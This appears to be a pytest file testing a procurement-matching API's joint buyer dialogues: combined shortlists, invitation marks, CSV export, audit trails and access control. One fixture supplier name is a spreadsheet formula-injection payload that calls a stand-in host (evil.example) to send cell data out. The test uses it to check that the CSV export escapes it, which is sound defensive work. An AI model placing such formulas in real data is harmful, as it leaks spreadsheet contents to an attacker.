"""Joint market dialogues over HTTP (fake embedder; SQLite and PostgreSQL): several buyers' needs grouped
into one dialogue with one shortlist ranked by the mean score, one invitation list marked into every
buyer's record, one merged audit trail; who may read and who may change it."""

import csv
import io

import pytest
from fastapi.testclient import TestClient

from api.main import create_app
from service.container import Services
from tests.builders import SUPPLIERS, key_headers

FALLS_ONLY = SUPPLIERS[0]["id"]  # Trygghetssensor AS: fall sensors
LOCKS_ONLY = "NO-BRC-900000011"
BOTH = "NO-BRC-900000012"
LOCKS_NEED = "trondheim-locks"
MORE_SUPPLIERS = [
    {
        "id": LOCKS_ONLY,
        "name": '=HYPERLINK("http://evil.example/?x="&B2,"Låsløs AS")',  # a name a spreadsheet would run
        "description": "Vi leverer digitale dørlåser så hjemmetjenesten åpner dørene med mobilen.",
        "cpv_codes": ["44521120"],  # electronic security locks
        "country": "NO",
        "size": "small",
    },
    {
        "id": BOTH,
        "name": "Omsorgsteknologi AS",
        "description": (
            "Vi leverer fallsensorer som varsler hjemmetjenesten når eldre faller hjemme, og digitale dørlåser "
            "så hjemmetjenesten åpner dørene med mobilen."
        ),
        "country": "NO",
        "size": "medium",
    },
]
MORE_NEEDS = [
    {
        "id": LOCKS_NEED,
        "title": "Digitale dørlåser i hjemmetjenesten",
        "description": "Trondheim kommune ønsker digitale dørlåser så hjemmetjenesten åpner dørene med mobilen.",
        "buyer": "Trondheim kommune",
        "cpv_codes": ["44521120"],
        "country": "NO",
        "status": "planning",
    },
    {
        "id": "oslo-falls",
        "title": "Fallsensorer i hjemmetjenesten",
        "description": "Oslo kommune ønsker fallsensorer som varsler hjemmetjenesten når eldre faller i eget hjem.",
        "buyer": "Oslo kommune",
        "cpv_codes": ["33196200"],
        "country": "NO",
        "status": "open",
    },
]


@pytest.fixture
def api(client: TestClient) -> TestClient:
    for supplier in MORE_SUPPLIERS:
        assert client.post("/suppliers", json=supplier).status_code == 201
    for need in MORE_NEEDS:
        assert client.post("/needs", json=need).status_code == 201
    return client


@pytest.fixture
def dialogue(api: TestClient) -> str:
    """Bergen's fall sensors and Trondheim's door locks, grouped by an adviser."""
    created = api.post("/dialogues", json={"title": "Trygg hjemmetjeneste", "need_ids": ["need-1", LOCKS_NEED]})
    assert created.status_code == 201, created.text
    return str(created.json()["id"])


def actions(api: TestClient, need_id: str) -> list[str]:
    return [e["action"] for e in api.get(f"/needs/{need_id}/audit").json()]


def test_grouping_links_each_buyers_need_and_records_it_in_each_trail(api: TestClient, dialogue: str) -> None:
    body = api.get(f"/dialogues/{dialogue}").json()
    assert body["title"] == "Trygg hjemmetjeneste" and body["created_by"].startswith("test adviser")
    assert [(n["need_id"], n["buyer"], n["status"]) for n in body["needs"]] == [
        ("need-1", "Bergen kommune", "open"),
        (LOCKS_NEED, "Trondheim kommune", "planning"),
    ]
    for need_id in ("need-1", LOCKS_NEED):
        [grouped] = [e for e in api.get(f"/needs/{need_id}/audit").json() if e["action"] == "grouped"]
        assert grouped["details"] == {"dialogue": dialogue, "needs": ["need-1", LOCKS_NEED]}
    assert [d["id"] for d in api.get("/dialogues").json()] == [dialogue]


def test_a_need_already_grouped_is_refused_by_name_and_nothing_is_written(api: TestClient, dialogue: str) -> None:
    refused = api.post("/dialogues", json={"title": "Fall", "need_ids": ["oslo-falls", "need-1"]})
    assert refused.status_code == 409
    assert "need-1" in refused.json()["detail"] and dialogue in refused.json()["detail"]
    assert len(api.get("/dialogues").json()) == 1 and "grouped" not in actions(api, "oslo-falls")
    other = api.post("/dialogues", json={"need_ids": ["oslo-falls", "need-2"]}).json()["id"]
    assert [d["id"] for d in api.get("/dialogues").json()] == [other, dialogue]  # newest first
    assert api.post(f"/dialogues/{other}/needs", json={"need_id": LOCKS_NEED}).status_code == 409


def test_bad_requests_name_the_field_and_unknown_ids_are_404(api: TestClient) -> None:
    one = api.post("/dialogues", json={"title": "x", "need_ids": ["need-1"]})
    assert one.status_code == 422 and "need_ids" in one.json()["detail"][0]["loc"]
    twice = api.post("/dialogues", json={"need_ids": ["need-1", "need-1"]})
    assert twice.status_code == 422 and "need_ids" in twice.json()["detail"][0]["loc"]
    nul = api.post("/dialogues", json={"title": "a\x00b", "need_ids": ["need-1", LOCKS_NEED]})
    assert nul.status_code == 422 and "title" in nul.json()["detail"][0]["loc"]
    assert api.post("/dialogues", json={"need_ids": ["need-1", "need-404"]}).status_code == 404
    assert api.get("/dialogues").json() == [] and "grouped" not in actions(api, "need-1")  # nothing half-written
    assert api.get("/dialogues/jd-00000000").status_code == 404
    assert api.get("/dialogues/jd-00000000/shortlist").status_code == 404


def test_the_default_title_is_the_first_needs(api: TestClient) -> None:
    body = api.post("/dialogues", json={"need_ids": [LOCKS_NEED, "need-1"]}).json()
    assert body["title"] == "Digitale dørlåser i hjemmetjenesten"


def test_one_shortlist_ranks_the_supplier_that_fits_every_need_first(api: TestClient, dialogue: str) -> None:
    answer = api.get(f"/dialogues/{dialogue}/shortlist", params={"k": 3}).json()
    assert answer["needs"] == ["need-1", LOCKS_NEED] and answer["count"] == 3
    best = answer["results"][0]
    assert best["id"] == BOTH and set(best["need_scores"]) == {"need-1", LOCKS_NEED}
    assert best["score"] == pytest.approx(sum(best["need_scores"].values()) / 2, abs=2e-4)
    assert best["explanation"]["summary"] and best["best_need"] in best["need_scores"]
    # Each need alone ranks a specialist first: the group ranking is what puts the all-rounder on top.
    alone = {n: api.get(f"/needs/{n}/shortlist", params={"k": 3}).json()["results"][0]["id"] for n in ("need-1", LOCKS_NEED)}
    assert alone == {"need-1": FALLS_ONLY, LOCKS_NEED: LOCKS_ONLY}
    scores = [r["score"] for r in answer["results"]]
    assert scores == sorted(scores, reverse=True)
    for need_id in ("need-1", LOCKS_NEED):
        [shown] = [
            e for e in api.get(f"/needs/{need_id}/audit").json() if e["details"].get("dialogue") and e["action"] == "shortlist"
        ]
        assert shown["details"]["dialogue"] == dialogue and shown["details"]["shown"][0]["supplier_id"] == BOTH
        assert shown["details"]["shown"][0]["need_score"] == best["need_scores"][need_id]


def test_marking_on_the_dialogue_marks_every_buyers_need(api: TestClient, dialogue: str) -> None:
    marked = api.post(f"/dialogues/{dialogue}/feedback", json={"supplier_id": BOTH, "mark": "invited"})
    assert marked.status_code == 201
    assert [m["need_id"] for m in marked.json()["marks"]] == ["need-1", LOCKS_NEED]
    for need_id in ("need-1", LOCKS_NEED):
        [mark] = api.get(f"/needs/{need_id}/feedback").json()
        assert (mark["supplier_id"], mark["mark"]) == (BOTH, "invited") and mark["adviser"].startswith("test adviser")
        [event] = [e for e in api.get(f"/needs/{need_id}/audit").json() if e["action"] == "mark"]
        assert event["details"] == {"supplier_id": BOTH, "mark": "invited", "dialogue": dialogue}
    missing = api.post(f"/dialogues/{dialogue}/feedback", json={"supplier_id": "NO-BRC-404", "mark": "invited"})
    bad = api.post(f"/dialogues/{dialogue}/feedback", json={"supplier_id": BOTH, "mark": "maybe"})
    assert missing.status_code == 404 and bad.status_code == 422 and "mark" in bad.json()["detail"][0]["loc"]
    assert len(api.get("/needs/need-1/feedback").json()) == 1  # nothing half-written


def test_the_invitation_list_joins_the_needs_and_its_csv_is_spreadsheet_safe(api: TestClient, dialogue: str) -> None:
    api.post(f"/dialogues/{dialogue}/feedback", json={"supplier_id": BOTH, "mark": "invited"})
    api.post(f"/needs/{LOCKS_NEED}/feedback", json={"supplier_id": LOCKS_ONLY, "mark": "invited"})  # one buyer's own
    api.post("/needs/need-1/feedback", json={"supplier_id": FALLS_ONLY, "mark": "relevant"})  # not an invitation
    listed = api.get(f"/dialogues/{dialogue}").json()["invitations"]
    assert [(i["supplier_id"], i["invited_for"]) for i in listed] == [(BOTH, ["need-1", LOCKS_NEED]), (LOCKS_ONLY, [LOCKS_NEED])]
    response = api.get(f"/dialogues/{dialogue}/invitations.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["id"] for r in rows] == [BOTH, LOCKS_ONLY]
    assert rows[1]["name"].startswith("'=HYPERLINK(") and rows[0]["invited_for"] == f"need-1 {LOCKS_NEED}"
    assert float(rows[0]["score"]) >= float(rows[1]["score"]) and rows[0]["why"]
    for need_id in ("need-1", LOCKS_NEED):
        [export] = [e for e in api.get(f"/needs/{need_id}/audit").json() if e["action"] == "export"]
        assert export["details"]["dialogue"] == dialogue and export["details"]["suppliers"] == [BOTH, LOCKS_ONLY]


def test_the_audit_trail_merges_both_needs_in_time_order(api: TestClient, dialogue: str) -> None:
    api.get(f"/dialogues/{dialogue}/shortlist")
    api.post(f"/dialogues/{dialogue}/feedback", json={"supplier_id": BOTH, "mark": "invited"})
    api.get("/needs/need-1/shortlist")  # a shortlist of one member need alone is part of the record too
    events = api.get(f"/dialogues/{dialogue}/audit").json()
    assert {(e["need_id"], e["action"]) for e in events} >= {
        (n, a) for n in ("need-1", LOCKS_NEED) for a in ("grouped", "shortlist", "mark")
    }
    assert [e["at"] for e in events] == sorted(e["at"] for e in events)
    assert [e["action"] for e in events if e["need_id"] == "need-1"] == actions(api, "need-1")


def test_adding_and_taking_out_needs(api: TestClient, dialogue: str) -> None:
    added = api.post(f"/dialogues/{dialogue}/needs", json={"need_id": "oslo-falls"})
    assert added.status_code == 200 and [n["need_id"] for n in added.json()["needs"]] == ["need-1", LOCKS_NEED, "oslo-falls"]
    assert api.post(f"/dialogues/{dialogue}/needs", json={"need_id": "oslo-falls"}).status_code == 200  # already in
    assert actions(api, "oslo-falls").count("grouped") == 1
    assert api.post(f"/dialogues/{dialogue}/needs", json={"need_id": "need-404"}).status_code == 404
    taken = api.delete(f"/dialogues/{dialogue}/needs/{LOCKS_NEED}")
    assert taken.status_code == 200 and [n["need_id"] for n in taken.json()["needs"]] == ["need-1", "oslo-falls"]
    [ungrouped] = [e for e in api.get(f"/needs/{LOCKS_NEED}/audit").json() if e["action"] == "ungrouped"]
    assert ungrouped["details"] == {"dialogue": dialogue, "needs": ["need-1", "oslo-falls"], "removed": [LOCKS_NEED]}
    assert "ungrouped" in actions(api, "need-1")  # the remaining needs' record says so too
    assert api.delete(f"/dialogues/{dialogue}/needs/{LOCKS_NEED}").status_code == 404
    assert api.post("/dialogues", json={"need_ids": [LOCKS_NEED, "need-2"]}).status_code == 201  # free again


def test_member_buyers_read_and_nobody_else_but_advisers(services: Services, api: TestClient, dialogue: str) -> None:
    bergen = key_headers(services, "buyer", buyer="Bergen kommune")
    for path in ("", "/shortlist", "/invitations.csv", "/audit"):
        assert api.get(f"/dialogues/{dialogue}{path}", headers=bergen).status_code == 200, path
    assert [d["id"] for d in api.get("/dialogues", headers=bergen).json()] == [dialogue]
    mark = {"supplier_id": BOTH, "mark": "invited"}
    assert api.post(f"/dialogues/{dialogue}/feedback", json=mark, headers=bergen).status_code == 403
    assert api.post(f"/dialogues/{dialogue}/needs", json={"need_id": "oslo-falls"}, headers=bergen).status_code == 403
    assert api.delete(f"/dialogues/{dialogue}/needs/{LOCKS_NEED}", headers=bergen).status_code == 403
    assert api.post("/dialogues", json={"need_ids": ["need-1", "oslo-falls"]}, headers=bergen).status_code == 403
    umea = key_headers(services, "buyer", buyer="Umeå kommun")
    supplier = key_headers(services, "supplier", supplier_id=BOTH)
    for headers in (umea, supplier):
        assert api.get(f"/dialogues/{dialogue}", headers=headers).status_code == 403
        assert api.get(f"/dialogues/{dialogue}/invitations.csv", headers=headers).status_code == 403
    assert api.get("/dialogues", headers=umea).json() == [] and api.get("/dialogues", headers=supplier).status_code == 403
    with TestClient(create_app(services=services)) as anonymous:
        assert anonymous.get(f"/dialogues/{dialogue}").status_code == 401
        assert anonymous.get("/dialogues").status_code == 401
        assert anonymous.post(f"/dialogues/{dialogue}/feedback", json=mark).status_code == 401
    assert api.get("/needs/need-1/feedback").json() == []  # none of the refused writes wrote
    assert len(api.get(f"/dialogues/{dialogue}").json()["needs"]) == 2


def test_a_deleted_need_leaves_its_record_and_the_rest_of_the_dialogue_works(api: TestClient, dialogue: str) -> None:
    assert api.delete(f"/needs/{LOCKS_NEED}").status_code == 204
    body = api.get(f"/dialogues/{dialogue}").json()
    assert [(n["need_id"], n["stored"]) for n in body["needs"]] == [("need-1", True), (LOCKS_NEED, False)]
    answer = api.get(f"/dialogues/{dialogue}/shortlist").json()
    assert answer["needs"] == ["need-1"] and answer["results"][0]["id"] == FALLS_ONLY
    assert api.post(f"/dialogues/{dialogue}/feedback", json={"supplier_id": BOTH, "mark": "invited"}).status_code == 201
    assert {e["need_id"] for e in api.get(f"/dialogues/{dialogue}/audit").json()} == {"need-1", LOCKS_NEED}
